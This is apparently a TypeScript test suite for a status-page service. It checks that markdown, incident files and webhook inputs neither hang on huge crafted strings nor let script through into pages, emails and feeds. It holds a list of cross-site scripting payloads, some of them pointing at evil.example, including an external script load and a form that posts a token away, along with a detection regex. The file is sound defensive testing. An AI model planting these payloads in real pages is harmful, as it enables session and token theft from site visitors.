// Hostile text: long strings made to hang a pattern, and markdown made to run something.
import { describe, expect, test } from 'vitest';
import { negotiate } from '../../src/core/i18n/words.ts';
import { snsCertificateUrl } from '../../src/core/inbound/senders/alerts/sns.ts';
import { SENDERS } from '../../src/core/inbound/senders.ts';
import { bodyForLog } from '../../src/core/inbound/webhook-log.ts';
import { updateSchema } from '../../src/core/incidents/api/bodies.ts';
import { parseIncident } from '../../src/core/incidents/file/parse.ts';
import { unknownComponents } from '../../src/core/incidents/lint/lint.ts';
import { timeProblems } from '../../src/core/incidents/lint/times.ts';
import { nearestWord, printProblem } from '../../src/core/model/problem.ts';
import { mailboxOf, readAddress } from '../../src/core/model/subscriber.ts';
import { parseDuration, parseInstant } from '../../src/core/model/time.ts';
import { readToken } from '../../src/core/model/token.ts';
import { readResendEvent } from '../../src/core/notify/bounce.ts';
import { inWords } from '../../src/core/text/chat-markdown.ts';
import {
  absoluteLinks,
  escapeMarkdown,
  markdownAsWords,
  renderMarkdown,
} from '../../src/core/text/markdown.ts';
import { slug } from '../../src/core/text/slug.ts';
import { makeRender } from '../../src/views.ts';
import { feedOf } from '../../src/web/feeds/entries.ts';
import { chooseEncoding } from '../../src/web/http/encoding.ts';
import { loggedPath } from '../../src/web/http/logged-path.ts';
import { bodyText } from '../../src/web/statuspage/text.ts';
import { makeEmails } from '../../src/work/notify/email-texts.ts';
import { incident, NOW, shown, site, snapshot, update } from '../makers.ts';
import { leastTime, ownTime } from '../own-time.ts';

/** As long as any body or header may be. */
const LONG = 100_000;
const fill = (text: string) => text.repeat(Math.ceil(LONG / text.length)).slice(0, LONG);
const BAITS = [
  ...[
    'a',
    ' ',
    '\n',
    '-',
    '/',
    '.',
    '@',
    '"',
    '<',
    '&',
    ',',
    ';',
    '\\',
    '[',
    '(',
    '*',
    '_',
    '`',
    '#',
    '>',
    '|',
  ].map(fill),
  ...[
    'a@',
    'a.',
    'a-',
    '<a ',
    '</p>',
    '](',
    '![',
    '**a',
    '_a_',
    '&#',
    'http://',
    '"token',
    'x=1,',
    '0.',
    '\r\n',
    '\n\n',
    '1h',
  ].map(fill),
  ...[
    '- ',
    '[^a]: ',
    '[^a]: b\n',
    '> ',
    '  - a\n',
    '| a | b |\n',
    '# ',
    '[a][',
    '<!--',
    '\u0000',
    '\u202e',
    'ü',
    '日本',
    '\ud800',
  ].map(fill),
  `${fill('a')}!`,
  `a@${fill('a-')}`,
  `${fill('/')}x`,
  `${fill(' ')}x`,
  `"${fill('token')}`,
];
/** Generous: a pattern that hangs takes minutes at this length. */
const PATIENCE = 3000;

describe('no pattern hangs on a long text', () => {
  const readers: [string, (bait: string) => unknown][] = [
    ['an address to subscribe', readAddress],
    ['a token', bait => readToken('secret', 'confirm', bait, 0)],
    ['Accept-Language', bait => negotiate(bait, bait)],
    ['Accept-Encoding', bait => chooseEncoding(bait)],
    ['a path for the log', loggedPath],
    ['a title made into a name', bait => slug(bait, 60)],
    ['a time', parseInstant],
    ['a duration', parseDuration],
    ['a webhook for its log', bait => bodyForLog({ a: bait, b: [bait], [bait]: bait })],
    [
      'a bounce',
      bait => readResendEvent({ type: 'email.bounced', data: { to: [bait], bounce: { type: bait } } }),
    ],
    [
      'an address of SNS',
      bait => snsCertificateUrl({ SigningCertURL: `https://sns.a.amazonaws.com/${bait}` }),
    ],
    ['an update by API', bait => updateSchema.safeParse({ message: bait, status: bait, at: bait })],
    ['a monitor’s words', escapeMarkdown],
    ...Object.entries(SENDERS).map(([name, read]): [string, (bait: string) => unknown] => [
      `a webhook of ${name}`,
      bait =>
        [
          'monitorFriendlyName',
          'alertDetails',
          'monitorURL',
          'monitor',
          'message',
          'url',
          'status',
          'title',
        ].map(field => read({ monitor: 'x', status: 'down', alertType: '1', monitorID: '1', [field]: bait })),
    ]),
  ];
  test.each(readers)('%s', (_name, read) => {
    for (const bait of BAITS) {
      const took = ownTime(() => read(bait));
      expect([bait.slice(0, 10), took]).toEqual([bait.slice(0, 10), expect.toSatisfy(ms => ms < PATIENCE)]);
    }
  });

  test.each([
    ['markdown', (bait: string) => renderMarkdown(bait)],
    ['its plain text', (bait: string) => markdownAsWords(bait)],
    [
      'an incident file',
      (bait: string) =>
        parseIncident(
          'x.md',
          'x',
          `---\ntitle: X\nstatus: investigating\nseverity: minor\nstarted: 2026-03-10T10:00:00Z\n---\n## Update 10:00 UTC\n${bait}`,
        ),
    ],
    [
      'front matter',
      (bait: string) => parseIncident('x.md', 'x', `---\ntitle: ${bait}\nstatus: "${bait}\n---\n`),
    ],
    ['headings', (bait: string) => parseIncident('x.md', 'x', `---\ntitle: X\n---\n## ${bait} 10:00\n`)],
  ])('%s, which an operator or the API writes', (_name, read) => {
    for (const bait of BAITS) {
      // A twentieth: markdown's nesting is quadratic, and who writes here has the token or the folder.
      const took = ownTime(() => read(bait.slice(0, LONG / 20)));
      expect([bait.slice(0, 10), took]).toEqual([bait.slice(0, 10), expect.toSatisfy(ms => ms < PATIENCE)]);
    }
  });
});

/** Each tries to run, load, frame, style or forge something. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](http://tracker.example/pixel.gif)',
  '![x"onerror="alert(1)](https://ok.example/x.png)',
  '![x](https://ok.example/x.png"onerror="alert(1))',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<https://ok.example/"onclick="alert(1)>',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  '<style>*{display:none}</style>',
  '<p style="position:fixed">x</p>',
  '<form action="https://evil.example"><input name=token></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
  '<h1 id="main">x</h1>',
  '- [x] <input type=checkbox onfocus=alert(1) autofocus>',
];

/** What no email and no feed has a use for. */
const DANGER =
  /<(script|svg|iframe|img src=x|form|meta http-equiv="refresh"|base|math)[\s>/]|<[a-z][a-z0-9]*(\s[\w-]+="[^"]*")*\s+(on\w+=|(href|src)="(javascript|data|vbscript))/i;

/** Tags and attributes that may be there; what is not among them is an attack that came through. */
const TAGS = /^(p|br|hr|strong|em|del|code|pre|blockquote|ul|ol|li|a|h[3-6]|table|thead|tbody|tr|th|td|img)$/;
const ATTRIBUTES = /^(href|title|rel|src|alt|loading|start)$/;

function expectHarmless(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z][^\s/>]*)((?:"[^"]*"|[^">])*)>/gi)) {
    expect(name).toMatch(TAGS);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      expect(attribute).toMatch(ATTRIBUTES);
      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:|#|\/(?!\/)|[\w&;.]*$)/);
      if (attribute === 'src') expect(value).toMatch(/^https:/);
    }
  }
  expect(html.replace(/<\/?[a-z][a-z0-9]*(\s[a-z]+="[^"<>]*")*\s*\/?>/gi, '')).not.toContain('<');
}

test('text nested deeper than the parser follows is shown as written, and keeps nothing else off the page', () => {
  const html = renderMarkdown(`${'> '.repeat(20_000)}<script>alert(1)</script>`);
  expect(html).toMatch(/^<pre>&gt; &gt; /);
  expectHarmless(html);
});

test('in a list of tasks done and not done stay apart, without a form, in plain words too', () => {
  const tasks = '- [x] told the provider\n- [ ] rolled back';
  expect(renderMarkdown(tasks).replace(/\s*<\/?[ul]+i?>\s*/g, '|')).toMatch(
    /☑ told the provider\|+☐ rolled back/,
  );
  expect(markdownAsWords(tasks)).toBe('☑ told the provider ☐ rolled back');
});

describe('the time a text takes grows with its length and no faster', () => {
  const bits = [
    ...[
      '_a',
      'a_',
      '~~a … b~~',
      'x_**',
      '*a_b ',
      '*_*_',
      '**a',
      '[',
      '![',
      '[a](',
      '[a](<b',
      '`a',
      '<a',
      '<a <a',
    ],
    ...[
      'a@a@',
      'www.',
      'http://a',
      '- ',
      '- a\n',
      '> ',
      '> - ',
      '1. ',
      '| a ',
      'a|b\n-|-\n',
      '[a]: b\n',
      '&#',
      '&amp',
    ],
    ...['a\n=\n', '```\n', '<!--', '\\', ' ', '\t', '\n', '[^a]', '"', "'", '(', '\ud800', '日本'],
  ];
  const shapes: [string, (length: number) => string][] = [
    ...bits.map((bit): [string, (length: number) => string] => [
      JSON.stringify(bit),
      length => bit.repeat(Math.ceil(length / bit.length)).slice(0, length),
    ]),
    [
      'one long address behind many words',
      length => `[a]: /${'x'.repeat(length / 2)}\n\n${'[a] '.repeat(length / 8)}`,
    ],
    [
      'one wide row',
      length => `${'|a'.repeat(length / 20)}|\n${'|-'.repeat(length / 20)}|\n${'|\n'.repeat(length / 3)}`,
    ],
    ['open, then closed', length => `${'*a '.repeat(length / 6)}${'a* '.repeat(length / 6)}`],
    ['blanks before a word', length => `${' '.repeat(length - 1)}x`],
    [
      'backticks of growing length',
      length => Array.from({ length: Math.sqrt(2 * length) }, (_, n) => '`'.repeat(n)).join('a'),
    ],
  ];
  const uses: [string, (text: string) => string][] = [
    ['as HTML', text => absoluteLinks(renderMarkdown(text), 'https://s.example', 'i')],
    ['in words', markdownAsWords],
    ['for a chat', inWords],
    ['for the Statuspage API', text => bodyText(text)],
  ];
  const took = (use: (text: string) => string, text: string) => leastTime(() => use(text), 3, 1500);
  // A bound that a busy machine keeps, and what is quadratic does not: `_a` took twelve seconds at a tenth of it.
  test.each(uses)('%s', { timeout: 60_000 }, (_name, use) => {
    for (const [name, make] of shapes) {
      for (const length of [5_000, 20_000, 100_000, 1_000_000]) {
        expect([name, length, took(use, make(length))]).toEqual([
          name,
          length,
          expect.toSatisfy(ms => ms < 1500),
        ]);
      }
    }
  });

  test('no text is shown at many times its length, and what is left as written says all of it', () => {
    for (const [, make] of shapes) {
      const text = make(20_000);
      expect(renderMarkdown(text).length).toBeLessThan(1_100 + 40 * text.length);
    }
    expect(renderMarkdown('_a'.repeat(20_000))).toBe(`<pre>${'_a'.repeat(20_000)}</pre>`);
    expect(renderMarkdown('a '.repeat(40_000))).toMatch(/^<p>/);
  });

  test('a list of 3000 levels reaches a chat as it was written', () => {
    expect(inWords(`${'- '.repeat(3000)}x`)).toBe(`${'- '.repeat(3000)}x`);
    expect(inWords('- '.repeat(3000))).toBe('');
  });

  test('an incident of more sections than are read is an error that says so', () => {
    const head =
      '---\ntitle: X\nstatus: investigating\nseverity: minor\nstarted: 2026-03-10T10:00:00Z\n---\n';
    const read = (count: number) =>
      parseIncident('x.md', 'x', head + '## Update 10:00 UTC\nx\n'.repeat(count));
    expect(read(500).value?.updates).toHaveLength(500);
    const more = read(501);
    expect(more.problems).toMatchObject([{ level: 'error', line: 1007 }]);
    // It is on the page all the same, and nothing new of it is mailed.
    expect(more.value?.isPartlyUnreadable).toBe(true);
    expect(more.value?.updates).toHaveLength(500);
  });
});

describe('markdown runs nothing', () => {
  test.each(ATTACKS)('%s', attack => {
    const html = renderMarkdown(`Before\n\n${attack}\n\nAfter`);
    expect(html).toContain('Before');
    expectHarmless(html);
    expectHarmless(renderMarkdown(escapeMarkdown(attack)));
  });

  test('on its way into feeds and letters it stays what it was', () => {
    const letters = makeEmails(makeRender('views'));
    const links = {
      incident: 'https://s.example/i',
      unsubscribe: 'https://s.example/u',
      manage: 'https://s.example/m',
    };
    for (const attack of ATTACKS) {
      const news = update(NOW, 'investigating', attack);
      const told = incident('x', { title: attack.split('\n')[0] as string, started: NOW, updates: [news] });
      const { html } = letters.update(site(), 'en', told, news, ['API'], links);
      expect([attack, html.match(DANGER)?.[0]]).toEqual([attack, undefined]);
      const { entries } = feedOf(snapshot([], { incidents: [shown(told)] }), undefined, 'update');
      for (const entry of entries) {
        expect([attack, entry.html.match(DANGER)?.[0]]).toEqual([attack, undefined]);
      }
    }
  });
});

test('limits count a mailbox, however it is spelled; the mailboxes of others stay apart', () => {
  const same = (...spelled: string[]) => expect([...new Set(spelled.map(mailboxOf))]).toHaveLength(1);
  same('victim@example.com', 'victim+1@example.com', 'Victim+a+b@EXAMPLE.com', 'victim+@example.com.');
  same('v.i.c.t.i.m@gmail.com', 'victim@googlemail.com', 'vic.tim+x@gmail.com');
  same('user@xn--bcher-kva.example', 'user+1@b\u00fccher.example', 'USER@B\u00dcCHER.example');
  same('user@yahoo.com', 'user-shop@yahoo.com');
  same('me@icloud.com', 'me+x@me.com', 'me@mac.com');
  same('a.b-c@proton.me', 'abc@protonmail.com', 'a_bc+1@pm.me');
  same('user@fastmail.com', 'shop@user.fastmail.com');
  const apart = ['a.b@example.com', 'ab@example.com', 'ab-c@example.com', '+1@example.com', '+2@example.com'];
  expect(new Set(apart.map(mailboxOf)).size).toBe(apart.length);
});

describe('a file of a megabyte is read or refused at once, in words that can be read', () => {
  const HEAD = 'title: X\nstatus: investigating\nseverity: minor\nstarted: 2026-03-10T10:00:00Z\n';
  const lines = (count: number, line: (n: number) => string) =>
    Array.from({ length: count }, (_, n) => line(n)).join('\n');
  const fill = (text: string, length = 900_000) => text.repeat(length / text.length);
  const fronts: [string, string][] = [
    ['aliases of aliases', lines(20, n => `a${n}: &a${n} [${n ? `*a${n - 1},`.repeat(10) : ''}x]`)],
    ['aliases of one word', `a: &a x\nb: [${fill('*a,')}*a]`],
    ['brackets', `x: ${fill('[', 400_000)}`],
    ['few brackets', `x: ${fill('[', 3000)}`],
    ['braces', `x: ${fill('{a: ', 40_000)}`],
    ['lists in a line', `x:\n${fill('- ', 7000)}a`],
    ['keys in a line', `${fill('? ', 7000)}a`],
    ['empty lines', fill('\n')],
    ['an unknown key', `${fill('a', 500_000)}: a`],
    ['unknown keys', lines(60_000, n => `k${n}: a`)],
    ['fewer unknown keys', lines(700, n => `k${n}: a`)],
    ['components', `components: [${lines(60_000, n => `c${n},`)}]`],
    ['components and their states', `components:\n${lines(30_000, n => `  c${n}: major_outage`)}`],
    ['a component', `components: [${fill('a', 500_000)}]`],
    ['a promise', `next_update: ${fill('12:', 500_000)}`],
    ['a shorter promise', `next_update: ${fill('soon ', 6000)}`],
    ['who filed it', `opened_by: ${fill('probe:', 500_000)}x`],
    ['a number', `x: ${fill('9', 500_000)}`],
  ];
  const minute = (n: number) => `2026-03-10 1${Math.floor(n / 60)}:${String(n % 60).padStart(2, '0')}`;
  const bodies: [string, string][] = [
    [
      'fields of 500 sections',
      lines(500, n => `## Update ${minute(n)} UTC\ncomponents: [api, db]\nnext_update: 15:30 UTC\n`),
    ],
    ['nested fields', lines(500, n => `## Update ${minute(n)} UTC\ncomponents: [${'{'.repeat(1800)}\n`)],
    ['long fields', `## Update 10:00 UTC\ncomponents: [${fill('a,')}]\n`],
    ['times that are none', fill('## Update 25:99\n')],
    ['headings', fill('## a\n')],
    ['headings of another level', fill('### Identifed 10:00\n')],
    ['empty lines in the body', fill('\n')],
  ];
  const files = [
    ...fronts.map(([name, front]): [string, string] => [name, `---\n${HEAD}${front}\n---\n`]),
    ...bodies.map(([name, body]): [string, string] => [name, `---\n${HEAD}---\n${body}`]),
    ['a status', `---\n${HEAD.replace('investigating', fill('a', 500_000))}---\n`],
    ['a moment', `---\n${HEAD.replace('2026-03-10T10', fill('2026-03-10 ', 7000))}---\n`],
  ] satisfies [string, string][];

  test.each(files)('%s', (_name, text) => {
    const read = () => {
      const { value, problems } = parseIncident('x.md', 'x', text);
      const late = value ? timeProblems(value, text, 'x.md', 0) : [];
      const strange = value
        ? unknownComponents(
            'x.md',
            text,
            value,
            ['api', 'billing'].map(id => ({ id, name: id })),
          )
        : [];
      return { value, problems, late, strange };
    };
    const { value, problems, late, strange } = read();
    for (const found of [problems, late, strange]) {
      expect(found.length).toBeLessThan(101);
      for (const problem of found) expect(printProblem(problem).length).toBeLessThan(1700);
    }
    if (!value) expect(problems).toContainEqual(expect.objectContaining({ level: 'error' }));
    // What a busy machine keeps (a quiet one takes a tenth): most took many seconds, and the keys in a line ended the
    // process.
    expect(leastTime(read, 3, 1500)).toBeLessThan(1500);
  });

  test('the nearest word is looked for among those of about its length', () => {
    const took = ownTime(() => {
      expect(nearestWord(fill('a', 500_000), ['api', 'billing'])).toBeUndefined();
      expect(nearestWord('monitorring', ['monitoring'])).toBe('monitoring');
    });
    expect(took).toBeLessThan(50);
  });
});
